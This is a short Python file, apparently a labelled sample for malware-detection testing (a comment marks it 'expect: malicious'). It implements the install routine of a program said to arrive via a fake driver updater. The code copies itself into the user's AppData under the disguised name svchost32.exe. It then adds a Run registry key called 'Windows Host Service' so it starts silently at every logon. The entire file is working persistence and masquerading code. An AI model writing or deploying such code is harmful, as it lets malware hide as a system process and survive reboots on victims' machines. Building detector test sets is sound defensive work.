"""Windows 'helper' installed by a fake driver updater."""
import os
import shutil
import sys
import winreg


def install() -> None:
    dest = os.path.join(os.environ["APPDATA"], "Microsoft", "Windows", "svchost32.exe")
    shutil.copy(sys.executable if getattr(sys, "frozen", False) else sys.argv[0], dest)
    key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\Microsoft\Windows\CurrentVersion\Run", 0, winreg.KEY_SET_VALUE)
    # expect: malicious
    winreg.SetValueEx(key, "Windows Host Service", 0, winreg.REG_SZ, f'"{dest}" --silent')
    winreg.CloseKey(key)
